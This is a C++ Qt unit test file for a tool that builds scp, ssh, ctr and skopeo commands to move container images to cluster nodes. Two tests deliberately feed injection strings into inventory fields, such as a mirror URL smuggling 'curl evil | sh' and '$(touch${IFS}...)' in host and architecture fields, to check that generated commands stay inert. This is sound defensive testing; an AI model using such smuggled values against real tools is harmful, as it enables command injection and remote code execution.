// SPDX-FileCopyrightText: 2026 The Quaymaster developers
// SPDX-License-Identifier: Apache-2.0
#include "core/execution/stepcommands.h"

#include <QDir>
#include <QFile>
#include <QFileInfo>
#include <QProcess>
#include <QTemporaryDir>
#include <QTest>

using namespace Qt::StringLiterals;
using namespace qm;

namespace {

/// An image that this machine fetches for three nodes, one of them with Docker, and that one fetches for itself.
Plan somePlan()
{
    Plan plan;
    Artifact image;
    image.kind = ArtifactKind::Image;
    image.architecture = u"amd64"_s;
    image.image = u"r.io/a:1"_s;
    plan.artifacts = {image};
    for (const QString &engine : {u"containerd"_s, u"docker"_s, u"containerd"_s, u"containerd"_s}) {
        const QString name = u"node%1"_s.arg(plan.hosts.size() + 1);
        plan.hosts.append({name, {}, u"amd64"_s, u"localhost"_s, engine, u"/srv"_s, {{0, {}}}, {}});
    }
    plan.downloads = {{u"localhost"_s, 0, {0, 1, 2}, false}, {u"node4"_s, 0, {3}, false}};
    for (const Stage stage : {Stage::Distribute, Stage::Load}) {
        for (HostIndex host = 0; host < 3; ++host)
            plan.steps.append({stage, host, 0, 0});
    }
    plan.steps.append({Stage::Load, 3, 0, 1});
    return plan;
}

/// A file that may be run, in a folder that need not be there.
void write(const QString &path, const QByteArray &script)
{
    QVERIFY(QDir().mkpath(QFileInfo(path).path()));
    QFile file(path);
    QVERIFY(file.open(QIODevice::WriteOnly));
    file.write("#!/bin/sh\n" + script);
    QVERIFY(file.setPermissions(QFile::ReadOwner | QFile::WriteOwner | QFile::ExeOwner));
}

} // namespace

class TestStepCommands final : public QObject
{
    Q_OBJECT

private:
    const Plan m_plan = somePlan();
    const ArtifactPlaces m_places{m_plan, u"/store"_s};

    [[nodiscard]] QString commands(quint32 step, bool thin, bool stream) const
    {
        ExecutionSettings settings;
        settings.thinArchives = thin;
        settings.streamImages = stream;
        settings.archiveKeepers = {u"node3"_s};
        return stepCommands(m_plan, m_places, settings, step);
    }

private Q_SLOTS:
    void brings()
    {
        const QString whole = u"# localhost\nscp '/store/from-localhost/amd64/amd64%r.io%2Aa%251.tar' "
                              "'node1:/srv/images/amd64%r.io%2Aa%251.tar.part'\nssh 'node1' "
                              "'mv '\\''/srv/images/amd64%r.io%2Aa%251.tar.part'\\'' "
                              "'\\''/srv/images/amd64%r.io%2Aa%251.tar'\\'''\n"_s;
        QCOMPARE(commands(0, false, false), whole);
        QCOMPARE(commands(0, true, false),
                 u"# localhost\nssh 'node1' ctr -n k8s.io content ls -q\n"
                 "# without the layers that are there, and then to '/srv/images/amd64%r.io%2Aa%251.tar.thin'\n"_s
                     + whole.section(u'\n', 1));
        QCOMPARE(commands(0, true, true),
                 u"# localhost\nssh 'node1' ctr -n k8s.io content ls -q\n# without the layers that are there\n"
                 "ssh 'node1' ctr -n k8s.io images import --platform linux/amd64 - "
                 "<'/store/from-localhost/amd64/amd64%r.io%2Aa%251.tar'\n"_s);
    }

    void loads()
    {
        const QString import = u"ctr -n k8s.io images import --platform linux/amd64 "_s;
        const QString archive = u"/srv/images/amd64%r.io%2Aa%251.tar"_s;
        // What was brought lean before somebody chose whole images is loaded, too.
        QCOMPARE(commands(3, false, false), commands(3, true, false));
        QCOMPARE(commands(3, true, false),
                 u"# node1\nif [ -f '"_s + archive + u".thin' ]; then\n    "_s + import + u"'"_s + archive
                     + u".thin' && rm '"_s + archive + u".thin'\nelse\n    "_s + import + u"'"_s + archive
                     + u"'\nfi\n"_s);
        QCOMPARE(commands(3, true, true), u"# node1\nctr -n k8s.io images check 'name==r.io/a:1'\n"_s);
    }

    /// What people paste makes the same archive: the same manifest, under the name that engines look for.
    void fetchesWhatWasWeighed()
    {
        Plan plan = m_plan;
        plan.artifacts[0].image = u"nginx:1"_s;
        plan.artifacts[0].digest = u"sha256:"_s + QString(64, u'a');
        plan.steps = {{Stage::Fetch, Step::controllerHost, 0, 0}, {Stage::Load, 1, 0, 0}, {Stage::Verify, 0, 0, 0}};
        const QString fetch = stepCommands(plan, m_places, {}, 0);
        QVERIFY2(fetch.contains(u"'docker://docker.io/library/nginx@sha256:aaaa"), qPrintable(fetch));
        QVERIFY2(fetch.contains(u".tar.part:docker.io/library/nginx:1'\nmv "), qPrintable(fetch));
        QVERIFY(stepCommands(plan, m_places, {}, 1).contains(u"'docker-daemon:docker.io/library/nginx:1'"));
        QVERIFY(stepCommands(plan, m_places, {}, 2).contains(u"'name==docker.io/library/nginx:1'"));
    }

    /// What a person lets be asked without TLS is that registry, not the mirrors of it.
    void fetchesThroughMirrors()
    {
        Plan plan = m_plan;
        plan.steps = {{Stage::Fetch, Step::controllerHost, 0, 0}};
        ExecutionSettings settings;
        settings.insecureRegistries = {u"r.io"_s};
        QVERIFY(stepCommands(plan, m_places, settings, 0).contains(u"--src-tls-verify=false"_s));
        settings.registrySettings = [](const Download &) {
            RegistrySettings registries;
            registries.registries = {{u"r.io"_s, {u"mirror.example"_s}, {}}};
            return registries;
        };
        const QString commands = stepCommands(plan, m_places, settings, 0);
        QVERIFY(!commands.contains(u"--src-tls-verify=false"_s));
        QVERIFY(commands.contains(u"location = \"r.io\"\ninsecure = true\n[[registry.mirror]]"_s));
        QCOMPARE(commands.count(u"insecure = true"_s), 1);
    }

    /// A line of the inventory's would be one that people run.
    void aMirrorIsNoCommand()
    {
        Plan plan = m_plan;
        plan.artifacts[0].kind = ArtifactKind::File;
        plan.artifacts[0].url = u"https://files.example/a"_s;
        plan.artifacts[0].mirrors = QStringList{u"https://files.example/a"_s, u"https://x.example/\ncurl evil | sh"_s};
        plan.steps = {{Stage::Fetch, Step::controllerHost, 0, 0}};
        const QStringList lines = stepCommands(plan, m_places, {}, 0).split(u'\n');
        QVERIFY(std::none_of(lines.cbegin(), lines.cend(),
                             [](const QString &line) { return line.startsWith(u"curl evil"); }));
    }

    /// Whatever plans and inventories hold, the shells that people paste it into see the same words.
    void shellsSeeTheSameWords()
    {
        const QTemporaryDir folder;
        const QString touched = folder.filePath(u"touched"_s);
        const QString strange = u"$(touch${IFS}%1)"_s.arg(touched);
        Plan plan = m_plan;
        plan.artifacts[0].architecture = strange;
        plan.hosts[0].name = u"node1\ntouch %1"_s.arg(touched);
        plan.hosts[0].releaseDir = u"/srv\ntouch %1;"_s.arg(touched);
        Artifact file;
        file.url = u"https://files.example/a"_s;
        file.dest = u"/srv/a"_s;
        file.checksum = u"touch %1;:12"_s.arg(touched);
        plan.artifacts.append(file);
        plan.downloads.append({u"localhost"_s, 1, {0}, false});
        plan.steps = {{Stage::Fetch, Step::controllerHost, 0, 0},
                      {Stage::Distribute, 0, 0, 0},
                      {Stage::Load, 0, 0, 0},
                      {Stage::Verify, 0, 1, 2}};
        const ArtifactPlaces places(plan, folder.path());
        const QString archive = places.pathAtController(plan.downloads[0]);
        write(archive, {});
        for (const QString &program : {u"skopeo"_s, u"ctr"_s, u"mv"_s, u"scp"_s})
            write(folder.filePath(u"bin/"_s + program), "printf '%s' \"${0##*/}\"\nprintf '|%s' \"$@\"\necho\n");
        write(folder.filePath(u"bin/ssh"_s), "shift\nexec /bin/sh -c \"$*\"\n");

        const auto wordsOf = [&](quint32 step, bool stream) {
            ExecutionSettings settings;
            settings.streamImages = stream;
            QProcess shell;
            QProcessEnvironment environment = QProcessEnvironment::systemEnvironment();
            environment.insert(u"PATH"_s, folder.filePath(u"bin"_s) + u":/usr/bin:/bin"_s);
            shell.setProcessEnvironment(environment);
            shell.start(u"/bin/sh"_s, {u"-c"_s, stepCommands(plan, places, settings, step)});
            return shell.waitForFinished() ? QString::fromUtf8(shell.readAllStandardOutput()) : QString();
        };
        const QString platform = u"|images|import|--platform|linux/"_s + strange;
        const QString fetched = wordsOf(0, false);
        QVERIFY2(fetched.startsWith(u"skopeo|--override-os|linux|--override-arch|%1|copy|"_s.arg(strange)),
                 qPrintable(fetched));
        QCOMPARE(wordsOf(1, true), u"ctr|-n|k8s.io|content|ls|-q\nctr|-n|k8s.io%1|-\n"_s.arg(platform));
        QVERIFY(wordsOf(1, false).startsWith(u"ctr|-n|k8s.io|content|ls|-q\nscp|"_s + archive));
        QCOMPARE(wordsOf(2, false), u"ctr|-n|k8s.io%1|%2\n"_s.arg(platform, places.path(0, plan.downloads[0])));
        (void)wordsOf(3, false);
        QVERIFY(!QFile::exists(touched));
    }

    /// Docker takes no part, nor do nodes that keep archives or fetch for themselves.
    void othersAsEver()
    {
        for (const quint32 step : {1U, 2U, 4U, 5U, 6U})
            QCOMPARE(commands(step, true, true), commands(step, false, false));
        QVERIFY(commands(2, true, true).contains(u"scp "));
    }
};

QTEST_GUILESS_MAIN(TestStepCommands)
#include "tst_stepcommands.moc"
